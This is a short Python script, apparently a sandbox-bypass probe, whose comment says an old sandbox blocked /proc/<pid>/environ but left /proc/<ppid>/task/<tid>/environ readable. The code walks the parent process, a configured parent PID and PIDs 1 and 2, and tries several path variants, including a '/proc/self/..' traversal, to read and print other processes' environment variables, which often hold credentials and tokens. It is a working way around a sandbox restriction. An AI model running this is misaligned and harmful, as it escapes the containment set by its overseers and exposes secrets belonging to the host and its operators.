# uses: bypass
# The leak of the old sandbox: /proc/<ppid>/task/<tid>/environ (only /proc/<pid>/environ was blocked).
import os
ppid = os.getppid()
for pid in {ppid, CFG["parent_pid"], 1, 2}:
    try:
        tids = os.listdir(f"/proc/{pid}/task")
    except OSError:
        tids = [str(pid)]
    for tid in tids:
        for p in (f"/proc/{pid}/task/{tid}/environ", f"/proc/{tid}/environ", f"/proc/self/../{pid}/environ"):
            try:
                print(p, open(p, "rb").read())
            except OSError as e:
                print("denied", p, e)
